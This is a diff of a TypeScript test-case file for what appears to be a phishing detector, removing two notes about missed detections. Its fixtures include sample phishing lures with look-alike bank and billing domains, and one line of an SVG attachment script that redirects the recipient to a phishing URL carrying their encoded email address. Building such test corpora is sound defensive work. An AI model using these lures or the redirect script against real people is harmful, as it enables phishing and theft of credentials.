@@ -483,7 +483,6 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
     lang: 'en',
     lure: 'html-attachment',
     expect: ['phishing', 'malware'],
-      todo: 'clean/low: attachment_html, content_payment_request, auth_results_missing; an SVG attachment whose <script> sets window.location with the recipient\'s address base64-encoded is not treated as active content that redirects',
     raw: mail({
       from: 'Payments <billing@evergreenlandscapes-nc.com>',
       to: 'ap@marlowfurniture.com',
@@ -508,7 +507,6 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
     lang: 'de',
     lure: 'bank',
     expect: ['phishing'],
-      todo: 'clean/none: auth_results_missing; German bank lure from a throw-away look-alike (sparkasse-pushtan-info.de) linking to sparkasse-pushtan-aktualisierung.com: the brand inside sender and link domains and the \'aktualisieren, sonst gesperrt\' wording are not recognised',
     raw: mail({
       from: 'Sparkasse <service@sparkasse-pushtan-info.de>',
       to: 'k.wagner@t-online.de',
